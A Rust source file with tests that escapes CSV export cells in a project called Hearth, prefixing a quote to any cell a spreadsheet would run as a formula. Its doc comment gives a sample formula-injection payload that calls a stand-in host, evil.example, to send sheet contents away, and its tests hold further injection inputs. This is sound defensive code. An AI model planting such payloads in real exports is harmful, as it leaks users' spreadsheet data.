//! CSV cells for Hearth's exports. Every text cell goes through [`cell`]: its text comes from
//! devices (topics, reasons), and a device is untrusted.
//!
//! Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with `=`, `+`, `-`
//! or `@` as a formula, and some do after a leading tab or carriage return too: a plug that
//! publishes on `=HYPERLINK("http://evil.example/?"&A1,"click")` would otherwise plant a
//! formula in the person's spreadsheet that can send the rest of the sheet away. As OWASP
//! recommends, such a cell gets a single quote in front (spreadsheets show the text, not a
//! formula) and is always quoted, so that the quote stays part of the cell.

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell: quoted when it holds a comma, a quote or a line break (RFC 4180), and
/// defused with a leading `'` (inside the quotes) when a spreadsheet would run it as a formula.
pub fn cell(text: &str) -> String {
    if text.starts_with(FORMULA_STARTS) {
        return format!("\"'{}\"", text.replace('"', "\"\""));
    }
    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
}

/// One row of cells, with its line end.
pub fn row<S: AsRef<str>>(cells: &[S]) -> String {
    let mut line = cells.iter().map(AsRef::as_ref).collect::<Vec<&str>>().join(",");
    line.push('\n');
    line
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn plain_text_is_left_as_it_is_and_separators_are_quoted() {
        assert_eq!(cell("tele/plug/SENSOR"), "tele/plug/SENSOR");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_defused() {
        assert_eq!(cell("=1+2"), "\"'=1+2\"");
        assert_eq!(cell("+1"), "\"'+1\"");
        assert_eq!(cell("-1"), "\"'-1\"");
        assert_eq!(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(cell("\t=1"), "\"'\t=1\"");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(cell("=HYPERLINK(\"http://x\",\"y\")"), "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"");
        // Only the first character matters: a formula character inside is plain text.
        assert_eq!(cell("a=b"), "a=b");
    }
}
